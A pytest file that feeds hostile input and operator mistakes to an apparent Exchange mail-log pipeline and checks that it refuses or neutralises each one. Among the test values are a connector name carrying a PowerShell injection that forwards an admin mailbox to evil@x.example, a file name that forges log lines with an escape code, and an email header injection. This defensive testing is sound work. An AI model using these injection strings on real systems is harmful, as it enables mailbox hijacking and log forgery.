"""The hostile tour: bad input, operator mistakes and odd file-system states, through the
command line as a user runs it (`python -m pipeline`, a process of its own).

Every case checks the exit code, the first line of the message, that the inbox is
untouched, that nothing was written outside the lake and the reports, that no traceback
was printed, and that the lake's rows of the tenants the case did not aim at are intact.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import polars as pl
import pytest

from tests.conftest import ROOT

AS_OF = "2026-11-28"
TRACE_HEADER = ('"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP",'
                '"FromIP","Size","MessageId","MessageTraceId","Organization"')


def trace_rows(n: int, start_day: int = 20, sender: str = "a@one.example",
               fmt: Callable[[int, int], str] | None = None) -> list[str]:
    """`n` Get-MessageTrace CSV rows (PowerShell 7 style, ISO dates unless `fmt`)."""
    out = []
    for i in range(n):
        day, hour = start_day + i % 5, i % 24
        when = fmt(day, hour) if fmt else f"2026-11-{day:02d}T{hour:02d}:00:00.0000000Z"
        out.append(f'"{when}","{sender}","r{i}@ext.example","s{i}","Delivered","","1.2.3.4",'
                   f'"100","<m{i}@x>","00000000-0000-4000-8000-{i:012d}","one.onmicrosoft.com"')
    return out


@dataclass
class Scratch:
    root: Path
    inbox: Path
    lake: Path
    reports: Path
    env: dict[str, str] = field(default_factory=dict)

    def nightly(self, *extra: str) -> list[str]:
        return ["nightly", "--inbox", str(self.inbox), "--lake", str(self.lake), "--reports",
                str(self.reports), "--as-of", AS_OF, "--no-email", *extra]

    def put(self, tenant: str, name: str, data: str | bytes) -> Path:
        path = self.inbox / tenant / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            data = data.encode("utf-8")
        path.write_bytes(data)
        return path

    def settings(self, text: str | bytes) -> list[str]:
        path = self.root / "relaywatch.toml"
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        return ["--config", str(path)]

    def messages(self) -> pl.DataFrame:
        return pl.read_parquet(self.lake / "messages", hive_partitioning=True)


@dataclass(frozen=True)
class Case:
    name: str
    args: Callable[[Scratch], list[str]]
    code: int
    first: str  # the first line of stderr starts with this (or contains it, for "~...")
    check: Callable[[Scratch, str, str], None] | None = None
    target: str | None = None  # the tenant a case may change; every other stays intact
    fresh_lake: bool = False  # the case runs on an empty lake folder


def _first(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    return lines[0] if lines else ""


def _rows_of(tenant: str, expected: int) -> Callable[[Scratch, str, str], None]:
    def check(s: Scratch, out: str, err: str) -> None:
        m = s.messages()
        assert m.filter(pl.col("tenant") == tenant).height == expected
    return check


def _rejected_rows(tenant: str, reasons: list[str]) -> Callable[[Scratch, str, str], None]:
    def check(s: Scratch, out: str, err: str) -> None:
        r = pl.read_parquet(s.lake / "rejects", hive_partitioning=True).filter(
            pl.col("tenant") == tenant)
        got = sorted(r["reason"].to_list())
        for want in reasons:
            assert any(want in g for g in got), (want, got)
    return check


EVIL_CONNECTOR = "x\u2019; Set-Mailbox admin -ForwardingSmtpAddress evil@x.example; #"


def _rename_connector(s: Scratch) -> list[str]:
    """contoso's attacker connector renamed to a PowerShell injection (in its snapshot and
    its audit events, as the attacker would name it)."""
    for path in (s.inbox / "contoso").iterdir():
        raw = path.read_bytes()
        utf16 = raw[1:4:2] == b"\x00\x00" or raw.startswith(b"\xff\xfe")
        codec = "utf-16-le" if utf16 else "utf-8"
        text = raw.decode(codec).replace("Inbound Relay Partner", EVIL_CONNECTOR)
        path.write_bytes(text.encode(codec))
    return s.nightly()


def _one_literal_each(s: Scratch, out: str, err: str) -> None:
    from tests.test_report import ps_single_quoted

    text = (s.reports / AS_OF / "report.txt").read_text(encoding="utf-8")
    commands = [ln.strip() for ln in text.splitlines()
                if ln.strip().startswith(("Set-InboundConnector", "Remove-InboundConnector"))]
    assert commands
    for command in commands:
        start = command.index("-Identity ") + len("-Identity ")
        value, end = ps_single_quoted(command, start)
        assert value in (EVIL_CONNECTOR, "Contoso On-Premises", "Inbound Relay Partner",
                         "Inbound from Wingtip on-premises")
        assert not command[end:].lstrip().startswith(";")
    assert any(EVIL_CONNECTOR.replace("\u2019", "\u2019\u2019") in c for c in commands)


def _no_forged_line(s: Scratch, out: str, err: str) -> None:
    assert "\x1b" not in err and not any(ln.startswith("relaywatch: ingest: forged")
                                         for ln in err.splitlines())


def _rebuilt(s: Scratch, out: str, err: str) -> None:
    """The damaged partition was put aside, not deleted, and rebuilt from the raw exports."""
    kept = list((s.lake / "quarantine").glob("*messages__tenant=t000__date=2026-11-20*"))
    assert len(kept) == 2  # the file and its .reason
    day = s.messages().filter((pl.col("tenant") == "t000")
                              & (pl.col("date").cast(pl.String) == "2026-11-20"))
    assert day.height > 0
    assert "damaged lake files were quarantined; running again" in err


CASES = [
    # -- data loss and security
    Case("future as-of with retention",
         lambda s: ["nightly", "--inbox", str(s.inbox), "--lake", str(s.lake), "--reports",
                    str(s.reports), "--as-of", "2062-11-28", "--no-email", "--keep-days", "90"], 2,
         "relaywatch: error: --as-of 2062-11-28 00:00Z is in the future"),
    Case("PowerShell injection through a connector name", _rename_connector, 0, "",
         _one_literal_each, "contoso"),
    Case("lake at the root folder", lambda s: ["ingest", str(s.inbox), "--lake", "/"], 2,
         "relaywatch: error: /: refusing to use / as the lake"),
    Case("lake in a folder of someone else's files",
         lambda s: (s.root / "docs").mkdir() or (s.root / "docs" / "a.txt").write_text("x")
         and ["ingest", str(s.inbox), "--lake", str(s.root / "docs")], 2,
         "~is not empty and is not a relaywatch lake"),
    Case("CR-only line endings",
         lambda s: s.put("one", "mac.csv", "\r".join([TRACE_HEADER, *trace_rows(30)]) + "\r")
         and s.nightly(), 0, "", _rows_of("one", 30), "one"),
    Case("mixed CR and LF line endings",
         lambda s: s.put("one", "mixed.csv", TRACE_HEADER + "\r" + "".join(
             r + ("\r\n", "\n", "\r")[i % 3] for i, r in enumerate(trace_rows(30))))
         and s.nightly(), 0, "", _rows_of("one", 30), "one"),
    Case("symlinked folder at the top of the inbox",
         lambda s: (s.inbox / "all").symlink_to(".") or s.nightly(), 3,
         "~all: REJECTED: a symlinked folder"),
    Case("reports at the root folder",
         lambda s: ["report", "--lake", str(s.lake), "--out", "/", "--as-of", AS_OF], 2,
         "relaywatch: error: /: refusing to use / as the reports"),
    Case("a file name with a line break and an escape code",
         lambda s: s.put("one", "x\nrelaywatch: ingest: forged.csv\x1b[2J.csv", "junk") and
         s.nightly(), 3, "~one/x\\nrelaywatch: ingest: forged.csv\\x1b[2J.csv: REJECTED",
         _no_forged_line),
    Case("lake equal to the inbox",
         lambda s: ["nightly", "--inbox", str(s.inbox), "--lake", str(s.inbox), "--no-email"],
         2, "relaywatch: error: the inbox"),
    Case("reports inside the inbox",
         lambda s: ["nightly", "--inbox", str(s.inbox), "--lake", str(s.lake), "--reports",
                    str(s.inbox / "reports"), "--no-email"], 2, "relaywatch: error: the inbox"),
    Case("unknown --tenant for detect",
         lambda s: ["detect", "--lake", str(s.lake), "--as-of", AS_OF, "--tenant", "nosuch"], 2,
         "relaywatch: error: --tenant 'nosuch': no such tenant"),
    Case("window_days = 0 in the settings file",
         lambda s: s.settings("[detect]\nwindow_days = 0\n") + ["detect", "--lake",
                                                                 str(s.lake)], 2,
         "~[detect] window_days = 0 is out of range"),
    # -- one bad file never stops the night
    Case("symlink loop in a tenant folder",
         lambda s: (s.inbox / "contoso" / "loop.csv").symlink_to("loop.csv") or s.nightly(), 3,
         "~contoso/loop.csv: REJECTED"),
    Case("deeply nested JSON",
         lambda s: s.put("one", "deep.json", "[" * 100_000 + "]" * 100_000) and s.nightly(), 3,
         "~one/deep.json: REJECTED"),
    Case("a FIFO as a loose file",
         lambda s: os.mkfifo(s.root / "fifo.csv") or ["ingest", str(s.root / "fifo.csv"),
                                                      "--tenant", "one", "--lake", str(s.lake)],
         3, "~one/fifo.csv: REJECTED: not a regular file"),
    Case("/dev/zero as a loose file",
         lambda s: ["ingest", "/dev/zero", "--tenant", "one", "--lake", str(s.lake)], 3,
         "~one/zero: REJECTED: not a regular file"),
    Case("header-only MSGTRK log",
         lambda s: s.put("one", "MSGTRK2026112801-1.LOG",
                         "#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.007\r\n"
                         "#Log-type: Message Tracking Log\r\n#Date: 2026-11-28T01:00:00.000Z\r\n"
                         "#Fields: " + ",".join(
                             __import__("pipeline.formats.tracking", fromlist=["x"]).MSGTRK_2013)
                         + "\r\n") and s.nightly(), 0, ""),
    Case("a corrupt partition",
         lambda s: (s.lake / "messages" / "tenant=t000" / "date=2026-11-20" / "data.parquet")
         .write_bytes(b"not parquet at all") and s.nightly(), 0,
         "~messages/tenant=t000/date=2026-11-20/data.parquet: corrupt", _rebuilt, "t000"),
    Case("a corrupt manifest",
         lambda s: (s.lake / "ingest_log" / "manifest.parquet").write_bytes(b"garbage")
         and s.nightly(), 0, "~ingest_log/manifest.parquet: corrupt"),
    # -- runaway work
    Case("cross join past the statement timeout",
         lambda s: ["sql", "SELECT count(*) FROM range(100000) a, range(100000) b, "
                    "range(100000) c", "--lake", str(s.lake), "--timeout", "2"], 1,
         "relaywatch: error: the query ran past the 2 s statement timeout"),
    Case("a header of a million columns",
         lambda s: s.put("one", "wide.csv", ",".join(f"c{i}" for i in range(1_000_000))
                         + "\n1\n") and s.nightly(), 3, "~one/wide.csv: REJECTED"),
    # -- tracebacks and wrong acceptances
    Case("RELAYWATCH_LAKE set to a file",
         lambda s: s.env.update(RELAYWATCH_LAKE=str(s.root / "f")) or (
             s.root / "f").write_text("x") and ["detect"], 2, "relaywatch: error: "),
    Case("a lake whose lock cannot be opened",
         lambda s: (s.lake / ".lock").unlink() or (s.lake / ".lock").mkdir() or s.nightly(), 1,
         "~.lock: cannot open the lake's lock file (Is a directory)"),
    Case("--log-file in a missing folder",
         lambda s: s.nightly("--log-file", str(s.root / "no" / "such" / "log")), 2,
         "~--log-file"),
    Case("brackets in the lake path",
         lambda s: ["ingest", str(s.inbox), "--lake", str(s.root / "lake[1]")], 2,
         "~a lake path cannot hold [ ]"),
    Case("settings paths = \"x\"", lambda s: s.settings('paths = "x"\n') + ["schema"], 2,
         "~paths = 'x' must be a section"),
    Case("settings detect = 5", lambda s: s.settings("detect = 5\n") + ["schema"], 2,
         "~detect = 5 must be a section"),
    Case("settings file not UTF-8", lambda s: s.settings(b"[paths]\nlake = \"\xff\xfe\"\n")
         + ["schema"], 2, "~not UTF-8 text"),
    Case("RELAYWATCH_CONFIG is a folder",
         lambda s: s.env.update(RELAYWATCH_CONFIG=str(s.root)) or ["schema"], 2,
         "~a folder, not a settings file"),
    Case("port = \"abc\"", lambda s: s.settings('[email]\nport = "abc"\n') + ["schema"], 2,
         "~[email] port = 'abc' must be a number"),
    Case("window_days = 1e300", lambda s: s.settings("[detect]\nwindow_days = 1e300\n")
         + ["schema"], 2, "~window_days = 1e+300"),
    Case("--as-of 0001-01-01",
         lambda s: ["detect", "--lake", str(s.lake), "--as-of", "0001-01-01"], 2,
         "relaywatch: error: --as-of '0001-01-01'"),
    Case("[email] to as a string",
         lambda s: s.settings('[email]\nto = "soc@x.example"\nhost = "127.0.0.1"\n'
                              'port = 9\n') + s.nightly()[:-1], 1, "~nightly"),
    Case("[paths] lake = \"\"", lambda s: s.settings('[paths]\nlake = ""\n') + ["schema"], 2,
         "~lake = '' must be a non-empty folder path"),
    Case("--email-to 'not an address'", lambda s: s.nightly()[:-1] + ["--email-to",
                                                                       "not an address"], 2,
         "relaywatch: error: --email-to: 'not an address' is not one email address"),
    Case("--email-to with two addresses", lambda s: s.nightly()[:-1] + [
        "--email-to", "a@b.example, c@d.example"], 2, "relaywatch: error: --email-to:"),
    Case("--email-to with a line break", lambda s: s.nightly()[:-1] + [
        "--email-to", "a@b.example\nBcc: x@evil.example"], 2, "relaywatch: error: --email-to:"),
    Case("every DuckDB type prints",
         lambda s: ["sql", "SELECT INTERVAL 2 DAY AS i, TIMESTAMP '2026-01-01 10:00' AS t, "
                    "'\\xAA'::BLOB AS b, '101'::BITSTRING AS bits, union_value(n := 1) AS u",
                    "--lake", str(s.lake), "--format", "json"], 0, ""),
    Case("Format-List text", lambda s: s.put("one", "fl.txt", "\r\nPSComputerName : "
                                             "outlook.office365.com\r\nName : x\r\n")
         and s.nightly(), 3, "~one/fl.txt: REJECTED: one/fl.txt:2: PowerShell display text"),
    Case("a CSV with a blank first line",
         lambda s: s.put("one", "blank.csv", "\n" + "\n".join([TRACE_HEADER, *trace_rows(5)]))
         and s.nightly(), 0, "", _rows_of("one", 5), "one"),
    Case("years 1601 and 9999, bad sizes, senders without @",
         lambda s: s.put("one", "odd.csv", "\n".join([
             TRACE_HEADER, *trace_rows(3),
             *trace_rows(1, fmt=lambda d, h: "1601-01-01T00:00:00Z"),
             *(r.replace('"2026-11-20T00', '"9999-12-31T00') for r in trace_rows(1)),
             *(r.replace('"100"', '"-5"') for r in trace_rows(1)),
             *(r.replace('"100"', '"lots"') for r in trace_rows(1)),
             *trace_rows(1, sender="nobody")])) and s.nightly(), 0,
         "", _rejected_rows("one", ["received_utc before 1990",
                                               "received_utc after tomorrow",
                                               "size_bytes negative", "size_bytes not a number",
                                               "sender_address without @"]), "one"),
    Case("culture dates decided by the last row",
         lambda s: s.put("one", "old.csv", "\n".join([TRACE_HEADER, *trace_rows(
             6000, fmt=lambda d, h: f"11/{(d - 20) % 5 + 1:02d}/2026 {h:02d}:00:00"),
             *trace_rows(1, fmt=lambda d, h: "11/25/2026 10:00:00")])) and s.nightly(), 0, "",
         None, "one"),
]


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample inbox and the lake and reports of its nightly run."""
    root = tmp_path_factory.mktemp("hostile-base")
    shutil.copytree(ROOT / "sample_logs" / "inbox", root / "inbox", symlinks=True)
    code, _, err = rw(["nightly", "--inbox", str(root / "inbox"), "--lake", str(root / "lake"),
                       "--reports", str(root / "reports"), "--as-of", AS_OF, "--no-email"], {})
    assert code == 0, err
    return root


def rw(args: list[str], env: dict[str, str], cwd: Path | None = None) -> tuple[int, str, str]:
    full = {k: v for k, v in os.environ.items() if not k.startswith("RELAYWATCH_")}
    r = subprocess.run([sys.executable, "-m", "pipeline", *args], capture_output=True,
                       text=True, env={**full, **env}, cwd=cwd, timeout=120,
                       stdin=subprocess.DEVNULL)
    return r.returncode, r.stdout, r.stderr


def tree(folder: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
    out = {}
    for p in sorted(folder.rglob("*")):
        if any(p == s or s in p.parents for s in skip):
            continue
        if p.is_symlink():
            out[str(p.relative_to(folder))] = "link:" + os.readlink(p)
        elif p.is_file():
            out[str(p.relative_to(folder))] = hashlib.sha256(p.read_bytes()).hexdigest()
        elif p.is_dir():
            out[str(p.relative_to(folder))] = "dir"
        else:
            out[str(p.relative_to(folder))] = "special"
    return out


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_tour(case: Case, base: Path, tmp_path: Path) -> None:
    s = Scratch(tmp_path, tmp_path / "inbox", tmp_path / "lake", tmp_path / "reports")
    shutil.copytree(base / "inbox", s.inbox, symlinks=True)
    if not case.fresh_lake:
        shutil.copytree(base / "lake", s.lake, symlinks=True)
    before_rows = s.messages() if (s.lake / "messages").is_dir() else None
    args = case.args(s)
    inbox_before = tree(s.inbox)
    outside_before = tree(tmp_path, skip=(s.lake, s.reports, s.inbox))
    code, out, err = rw(args, s.env, cwd=tmp_path)
    shown = f"exit {code}\nstdout:\n{out[-3000:]}\nstderr:\n{err[-3000:]}"
    assert "Traceback" not in out + err, shown
    assert code == case.code, shown
    first = _first(err)
    if case.first.startswith("~"):
        assert case.first[1:] in err, shown
    else:
        assert first.startswith(case.first) or (not case.first and code == 0), shown
    assert tree(s.inbox) == inbox_before, "the inbox changed"
    assert tree(tmp_path, skip=(s.lake, s.reports, s.inbox)) == outside_before, \
        "something was written outside the lake and the reports"
    if before_rows is not None and (s.lake / "messages").is_dir():
        after = s.messages()
        keep = pl.col("tenant") != (case.target or "")
        cols = ["tenant", "date", "received_utc", "network_message_id", "recipient_address"]
        assert after.filter(keep).select(cols).sort(cols).equals(
            before_rows.filter(keep).select(cols).sort(cols)), "other tenants' rows changed"
    if case.check:
        case.check(s, out, err)


def test_the_tour_covers_every_numbered_item_of_the_issue() -> None:
    assert len(CASES) >= 35
    assert json.dumps([c.name for c in CASES])  # names are unique, printable ids
    assert len({c.name for c in CASES}) == len(CASES)
